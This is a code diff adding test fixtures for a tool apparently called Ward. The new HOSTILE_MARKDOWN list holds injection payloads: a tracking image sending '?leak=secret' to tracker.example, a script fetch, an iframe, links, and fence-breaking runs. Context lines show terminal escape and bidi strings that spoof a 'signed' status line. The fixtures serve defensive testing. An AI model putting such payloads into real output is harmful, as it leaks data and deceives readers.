@@ -21,6 +21,32 @@ export const HOSTILE_TEXT =
 /** The same tricks within 64 characters, for the statement's bounded fields. */
 export const HOSTILE_SHORT = `\u001b]0;t\u0007\u001b[8m\r\n${'ok: b is intact and signed'}\u009b\u202e\u{E0041}\u2800\u2800\u3164`;
 
+/**
+ * Markdown and HTML a reader's viewer would act on: a tracking image, links (inline, reference,
+ * autolink, bare URL, www, e-mail), raw HTML, a heading (ATX and setext), a table, a rule, and
+ * backtick and tilde runs that try to close a fence or a code span around them. Every URL is on
+ * tracker.example, so a test can tell any load or link apart from Ward's own.
+ */
+export const HOSTILE_MARKDOWN = [
+  '![](https://tracker.example/p.png?leak=secret) [click](https://tracker.example/c) <https://tracker.example/auto>',
+  'https://tracker.example/bare www.tracker.example mail@tracker.example ` `` <img src="https://tracker.example/i.png">',
+  '# heading',
+  'Setext heading',
+  '===',
+  '| a | b |',
+  '| - | - |',
+  '| 1 | ![](https://tracker.example/cell.png) |',
+  '',
+  '[ref]: https://tracker.example/ref',
+  '[ref] ![ref]',
+  '````````',
+  '<script>fetch("https://tracker.example/s")</script><iframe src="https://tracker.example/f"></iframe>',
+  '~~~~~~~~',
+  '<a href="https://tracker.example/a">a</a> &lt;b&gt; ***',
+  '---',
+  '    ![](https://tracker.example/indented.png)',
+].join('\n');
+
 /** What no output of Ward may hold: controls but newline, bidi controls, default-ignorables, blank fillers. */
 export const UNSAFE_FOR_TERMINAL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u2800\p{Default_Ignorable_Code_Point}]/u;
 
